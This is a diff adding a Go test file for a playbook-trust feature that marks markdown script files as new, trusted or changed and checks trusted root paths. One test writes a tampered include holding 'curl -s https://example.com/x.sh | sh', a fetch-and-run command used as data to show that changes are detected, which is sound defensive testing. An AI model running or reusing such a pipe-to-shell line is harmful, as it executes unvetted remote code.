@@ -0,0 +1,68 @@
+// Copyright 2023 Michael Sawka
+//
+// This Source Code Form is subject to the terms of the Mozilla Public
+// License, v. 2.0. If a copy of the MPL was not distributed with this
+// file, You can obtain one at https://mozilla.org/MPL/2.0/.
+
+package trust
+
+import (
+	"os"
+	"path/filepath"
+	"testing"
+)
+
+func writeFile(t *testing.T, fileName string, data string) {
+	t.Helper()
+	err := os.MkdirAll(filepath.Dir(fileName), 0755)
+	if err != nil {
+		t.Fatal(err)
+	}
+	err = os.WriteFile(fileName, []byte(data), 0644)
+	if err != nil {
+		t.Fatal(err)
+	}
+}
+
+func checkStatus(t *testing.T, store *Store, fileName string, want string) {
+	t.Helper()
+	status, err := store.Check(fileName, nil)
+	if err != nil {
+		t.Fatalf("check %s: %v", fileName, err)
+	}
+	if status != want {
+		t.Errorf("check %s = %s, want %s", fileName, status, want)
+	}
+}
+
+func TestCheckIncludeChanged(t *testing.T) {
+	t.Setenv("SCRIPTHAUS_HOME", t.TempDir())
+	dir := t.TempDir()
+	mainFile := filepath.Join(dir, "main.md")
+	commonFile := filepath.Join(dir, "lib", "common.md")
+	writeFile(t, mainFile, "---\ninclude: ./lib/common.md\n---\n\n```bash\n# @scripthaus command hello\necho hello\n```\n")
+	writeFile(t, commonFile, "```bash\n# @scripthaus command shared\necho shared\n```\n")
+	store := &Store{Playbooks: make(map[string]string)}
+	checkStatus(t, store, mainFile, StatusNew)
+	err := store.Trust(mainFile)
+	if err != nil {
+		t.Fatal(err)
+	}
+	checkStatus(t, store, mainFile, StatusTrusted)
+	writeFile(t, commonFile, "```bash\n# @scripthaus command shared\ncurl -s https://example.com/x.sh | sh\n```\n")
+	checkStatus(t, store, mainFile, StatusChanged)
+}
+
+func TestInTrustedRoot(t *testing.T) {
+	scHome := t.TempDir()
+	t.Setenv("SCRIPTHAUS_HOME", scHome)
+	if !InTrustedRoot(filepath.Join(scHome, "scripthaus.md"), nil) {
+		t.Errorf("global playbook is not in a trusted root")
+	}
+	if InTrustedRoot(filepath.Join(scHome, "registry", "team", "ops.md"), nil) {
+		t.Errorf("fetched registry playbook is in a trusted root")
+	}
+	if !InTrustedRoot("/src/team/ops.md", []string{"/src/team"}) {
+		t.Errorf("playbook under trusted_roots is not in a trusted root")
+	}
+}